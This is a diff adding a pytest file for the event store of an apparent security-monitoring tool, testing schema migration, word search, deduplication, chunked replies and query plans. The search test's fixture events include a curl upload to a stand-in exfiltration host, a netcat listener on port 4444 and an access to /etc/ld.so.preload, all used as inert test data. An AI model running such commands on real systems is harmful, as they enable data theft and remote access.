@@ -1,0 +1,253 @@
+"""The store's compact schema against real SQLite and PostgreSQL: migration from version 1, refusal of
+newer schemas, word search, keys of events in the same ns, replies past the bus's max payload."""
+from __future__ import annotations
+
+import sqlite3
+import time
+
+import asyncpg
+import orjson
+import pytest
+
+from bench.eventmix import EventMix
+from bench.store_v1 import PostgresV1, SqliteV1
+from services.store import codec
+from services.store.backend import open_backend
+from services.store.client import StoreQueryError
+from services.store.migrate import SchemaError
+from shared import subjects
+from tests.test_store import all_pages, client_bus, cont, ev, running_store, store_url, until  # noqa: F401
+
+
+async def _v1_database(url: str, events: list[dict], alerts: list[dict]) -> None:
+    if url.startswith("sqlite"):
+        old = SqliteV1(url[len("sqlite://"):])
+    else:
+        old = await PostgresV1(url).open()
+    await old.write(events, alerts)
+    await old.close()
+
+
+async def _schema_version(url: str) -> int:
+    if url.startswith("sqlite"):
+        db = sqlite3.connect(url[len("sqlite://"):])
+        try:
+            return db.execute("SELECT version FROM schema_version").fetchone()[0]
+        finally:
+            db.close()
+    con = await asyncpg.connect(url)
+    try:
+        return await con.fetchval("SELECT version FROM schema_version")
+    finally:
+        await con.close()
+
+
+async def test_version_1_database_is_migrated_on_start(nats_server, store_url, tmp_path):
+    web = cont("web")
+    events = [ev("open", container=web, path=f"/srv/app/file{i}.txt") for i in range(700)]
+    alerts = [{"id": f"a-{i}", "ts": events[i]["ts"] + 1, "node": "n1", "kind": "alert", "pid": 1, "rule": "R",
+               "priority": "error", "output": f"opened file{i}", "tags": [], "event": events[i],
+               "container": web, "k8s": None} for i in range(0, 700, 70)]
+    await _v1_database(store_url, events, alerts)
+    async with running_store(nats_server.url, store_url, tmp_path) as svc, client_bus(nats_server.url) as (bus, c):
+        got = await all_pages(c, "events", limit=250)
+        assert [e["id"] for e in got] == [e["id"] for e in reversed(events)]      # all, newest first, whole
+        assert got[-1] == orjson.loads(orjson.dumps(events[0]))
+        assert len(await all_pages(c, "events", container="web")) == 700
+        assert [e["path"] for e in await all_pages(c, "events", q="file42.txt")] == ["/srv/app/file42.txt"]
+        assert len(await all_pages(c, "alerts", priority="warning")) == 10
+        # the derived tables came along unchanged; new events keep flowing in
+        assert [x["events"] for x in await c.containers() if x["id"] == web["id"]] == [700]
+        await bus.publish_batch(subjects.event("n1", "open"), [ev("open", container=web, path="/new")])
+        await until(lambda: svc.stats.total("events_stored_total") == 1, "a new event stored")
+        assert (await c.stats())["events"] == 701
+    assert await _schema_version(store_url) == 2
+
+
+async def test_newer_schema_is_refused_with_what_to_do(store_url):
+    b = open_backend(store_url)
+    await b.open()
+    await b.close()
+    if store_url.startswith("sqlite"):
+        db = sqlite3.connect(store_url[len("sqlite://"):])
+        db.execute("UPDATE schema_version SET version = 99")
+        db.commit()
+        db.close()
+    else:
+        con = await asyncpg.connect(store_url)
+        await con.execute("UPDATE schema_version SET version = 99")
+        await con.close()
+    b = open_backend(store_url)
+    with pytest.raises(SchemaError, match="version 99 is newer.*run a newer eunomia"):
+        try:
+            await b.open()
+        finally:
+            await b.close()
+
+
+async def test_word_search_prefixes_and_retention_of_words(nats_server, store_url, tmp_path):
+    t0 = time.time_ns() - 10**9
+    evs = [ev("open", ts=t0 + 1, path="/etc/ld.so.preload", comm="evil"),
+           ev("connect", ts=t0 + 2, comm="curl", family=2, daddr="203.0.113.77", dport=443, saddr="", sport=0,
+              proto="tcp", ret=0, args=["curl", "-fsS", "https://exfil.example.org/upload"]),
+           ev("exec", ts=t0 + 3, comm="nc", exe="/usr/bin/nc", args=["nc", "-lvp", "4444"], filename="/usr/bin/nc"),
+           ev("open", ts=t0 + 4, path="/var/log/nginx/access.log", comm="nginx", container=cont("frontend"))]
+    async with running_store(nats_server.url, store_url, tmp_path, retention_interval_s=3600) as svc, \
+            client_bus(nats_server.url) as (bus, c):
+        await bus.publish_batch(subjects.event("n1", "open"), evs)
+        await until(lambda: svc.stats.total("events_stored_total") == 4, "4 stored")
+
+        async def found(q: str) -> list[int]:
+            return sorted(e["ts"] - t0 for e in await all_pages(c, "events", q=q))
+        assert await found("preload") == [1]              # a dotted word's part
+        assert await found("LD.SO") == [1]                # a prefix of the whole dotted word, any case
+        assert await found("203.0.113") == [2]            # remote address by prefix
+        assert await found("exfil.example") == [2]        # command line
+        assert await found("nc 4444") == [3]              # all words; short ones whole
+        assert await found("ng") == []                    # 2 characters: whole words only ("nginx" is not "ng")
+        assert await found("frontend access") == [4]      # container name with path
+        assert await found("preload nginx") == []
+        for bad in ("a", "%%", "x" * 201):
+            with pytest.raises(StoreQueryError, match="'q'"):
+                await c.events(q=bad)
+        # retention deletes rows and their words: nothing found, and the index stays consistent
+        res = await svc.backend.retain(t0 + 3, 10**9, 10**12)
+        assert res.deleted["events"] == 2
+        assert await found("preload") == [] and await found("exfil") == []
+        assert await found("4444") == [3]
+        await bus.publish_batch(subjects.event("n1", "open"), [ev("open", path="/etc/ld.so.preload")])
+        await until(lambda: svc.stats.total("events_stored_total") == 5, "5 stored")
+        assert len(await found("preload")) == 1
+    if store_url.startswith("sqlite"):
+        db = sqlite3.connect(store_url[len("sqlite://"):])
+        db.execute("INSERT INTO events_fts (events_fts, rank) VALUES ('integrity-check', 0)")   # raises if corrupt
+        db.close()
+
+
+async def test_events_in_the_same_ns_are_all_kept_in_order_and_deduped(nats_server, store_url, tmp_path):
+    ts = time.time_ns()
+    same = [ev("open", ts=ts, path=f"/same/{i}") for i in range(5)] + [ev("open", ts=ts + 1, path="/next")]
+    async with running_store(nats_server.url, store_url, tmp_path) as svc, client_bus(nats_server.url) as (bus, c):
+        await bus.publish_batch(subjects.event("n1", "open"), same[:3])
+        await bus.publish_batch(subjects.event("n1", "open"), same[3:])
+        await bus.publish_batch(subjects.event("n1", "open"), same)               # redelivered: all duplicates
+        await until(lambda: svc.stats.total("duplicates_skipped_total") == 6, "6 duplicates")
+        assert svc.stats.total("events_stored_total") == 6
+        got = await all_pages(c, "events", limit=2)
+        assert sorted(e["id"] for e in got) == sorted(e["id"] for e in same)
+        assert all(e["ts"] in (ts, ts + 1) for e in got)                          # bodies keep their own ts
+        assert len(await all_pages(c, "events", since=ts, until=ts)) >= 1
+
+
+async def test_any_page_size_fits_the_bus(nats_server, store_url, tmp_path):
+    """1000 events of ~2.5 KB make a 2.5 MB page: more than NATS' 1 MiB max payload, sent in chunks."""
+    events = [ev("open", path=f"/data/{i}/" + "segment/" * 300) for i in range(1000)]
+    async with running_store(nats_server.url, store_url, tmp_path) as svc, client_bus(nats_server.url) as (bus, c):
+        for i in range(0, 1000, 200):
+            await bus.publish_batch(subjects.event("n1", "open"), events[i:i + 200])
+        await until(lambda: svc.stats.total("events_stored_total") == 1000, "1000 stored")
+        page = await c.events(limit=1000)
+        assert len(page["items"]) == 1000 and page["next_cursor"] is None
+        assert len(orjson.dumps(page)) > bus.nc.max_payload
+        assert svc.stats.total("query_replies_chunked_total") >= 1
+        with pytest.raises(StoreQueryError, match="'limit'"):
+            await c.events(limit=1001)
+
+
+def test_trained_dictionary_makes_bodies_small():
+    mix = EventMix(seed=7)
+    evs = mix.events(12_000, time.time_ns(), 3600 * 10**9)
+    c = codec.Codec()
+    for e in evs[:codec.TRAIN_SAMPLES]:
+        c.sample(codec.dumps(e))
+    assert c.wants_training()
+    c.add_dict(1, c.train())
+    raws = [codec.dumps(e) for e in evs[codec.TRAIN_SAMPLES:]]
+    blobs = [c.encode(r) for r in raws]
+    assert [c.decode(b) for b in blobs] == raws
+    assert sum(map(len, blobs)) / len(blobs) < 0.15 * sum(map(len, raws)) / len(raws)
+    fresh = codec.Codec()
+    with pytest.raises(ValueError, match="dictionary 1"):
+        fresh.decode(blobs[0])
+
+
+async def test_no_api_query_sorts_or_scans_the_journal(tmp_path):
+    """SQLite's plan for every combination of up to three filters: an index walk in key (time) order that stops
+    at the page's end; never a scan of the table, never a sort of all matches."""
+    import itertools
+
+    from services.store import journal, sqlite_backend
+    b = open_backend(f"sqlite:///{tmp_path}/plans.db")
+    await b.open()
+    await b.write([ev("open", container=cont("web"), path="/x")], [])
+    await b.close()
+    db = sqlite3.connect(tmp_path / "plans.db")
+    values = {"kind": "exec", "container": "abc", "node": "n1", "pid": 5, "namespace": "prod", "pod": "p",
+              "since": 1, "until": 2**62, "q": "nginx", "cursor": "999999999999999999", "rule": "R",
+              "priority": "error"}
+    checked = 0
+    for j, names in ((journal.EVENTS, journal.query.EVENT_PARAMS), (journal.ALERTS, journal.query.ALERT_PARAMS)):
+        names = [n for n in names if n != "limit"]
+        for n in (0, 1, 2, 3):
+            for combo in itertools.combinations(names, n):
+                pl = journal.plan(j, {k: values[k] for k in combo})
+                for probe in journal.probes(pl, {c: 1 for c in pl.names}, [1, 2] if pl.container else None):
+                    sql, args = sqlite_backend.probe_sql(pl, probe)
+                    plan = " | ".join(r[3] for r in db.execute("EXPLAIN QUERY PLAN " + sql, args))
+                    assert "TEMP B-TREE" not in plan and "SCAN t" not in plan, (combo, plan)
+                    checked += 1
+    assert checked > 300
+
+
+async def test_postgres_retention_drops_day_partitions(postgres):
+    url = await postgres.new_database()
+    b = open_backend(url)
+    await b.open()
+    try:
+        day = 24 * 3600 * 10**9
+        now = time.time_ns()
+        await b.write([ev("open", ts=now - d * day, path=f"/day{d}/{i}") for d in (4, 3, 2, 0) for i in range(50)], [])
+        con = await asyncpg.connect(url)
+        try:
+            parts = "SELECT count(*) FROM pg_inherits WHERE inhparent = 'events'::regclass"
+            assert await con.fetchval(parts) == 4
+            res = await b.retain(now - 2 * day - 3600 * 10**9, 10**9, 10**12)   # days 4 and 3 whole, day 2 kept
+            assert res.deleted["events"] == 100
+            assert await con.fetchval(parts) in (2, 3)    # the day-2 rows may share a partition with day 3's end
+            res = await b.retain(now - 10**9, 60, 10**12)                       # day 2 ages out; 50 < 60 rows
+            assert res.deleted["events"] == 50 and (await b.counts())["events"] == 50
+            assert await con.fetchval(parts) == 1
+            res = await b.retain(0, 20, 10**12)                                 # the row cap: oldest 30 go
+            assert res.deleted["events"] == 30
+            left = orjson.loads(orjson.dumps(await b.events({"limit": 100})))["items"]
+            assert len(left) == 20 and all(e["path"].startswith("/day0/") for e in left)
+        finally:
+            await con.close()
+    finally:
+        await b.close()
+
+
+async def test_postgres_search_past_the_walk_uses_the_index(postgres, monkeypatch):
+    """Rare words are found past the newest SEARCH_WALK rows (through the GIN index), pages included."""
+    from services.store import pg_backend
+    monkeypatch.setattr(pg_backend, "SEARCH_WALK", 5)
+    b = open_backend(await postgres.new_database())
+    await b.open()
+    try:
+        t0 = time.time_ns()
+        evs = [ev("open", ts=t0 + i, path=f"/common/{'rare' if i % 10 == 0 else 'x'}{i}") for i in range(60)]
+        await b.write(evs, [])
+
+        async def search(**p) -> list[int]:
+            out, cursor = [], None
+            while True:
+                page = orjson.loads(orjson.dumps(await b.events({**p, **({"cursor": cursor} if cursor else {})})))
+                out += [e["ts"] - t0 for e in page["items"]]
+                if not (cursor := page["next_cursor"]):
+                    return out
+        assert await search(q="rare", limit=2) == list(range(50, -1, -10))
+        assert await search(q="common", limit=7) == list(range(59, -1, -1))
+        assert await search(q="rare", kind="open", limit=100) == list(range(50, -1, -10))
+        assert await search(q="nowhere") == []
+    finally:
+        await b.close()
